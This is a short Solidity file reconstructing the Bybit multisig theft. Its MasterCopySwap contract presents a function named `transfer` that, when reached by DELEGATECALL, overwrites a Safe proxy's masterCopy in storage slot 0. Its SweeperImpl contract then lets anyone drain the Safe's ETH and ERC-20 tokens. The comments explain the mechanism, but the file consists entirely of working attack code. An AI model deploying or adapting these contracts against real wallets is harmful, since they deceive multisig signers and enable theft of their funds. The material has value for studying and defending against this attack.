// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

/// The mechanism of the Bybit theft (2025-02-21): Safe owners sign what their screen shows as
/// an ERC-20 `transfer`, but the operation is DELEGATECALL into this contract, whose
/// `transfer` writes its first argument into storage slot 0: the Safe proxy's masterCopy.
contract MasterCopySwap {
    function transfer(address to, uint256) external {
        assembly {
            sstore(0, to)
        }
    }
}

interface IERC20Min {
    function balanceOf(address who) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
}

/// What the attacker's implementation then offered once it was the Safe's masterCopy:
/// anyone can sweep the Safe's ETH and tokens.
contract SweeperImpl {
    function sweepETH(address payable to) external {
        to.transfer(address(this).balance);
    }

    function sweepERC20(address token, address to) external {
        IERC20Min(token).transfer(to, IERC20Min(token).balanceOf(address(this)));
    }

    receive() external payable {}
}
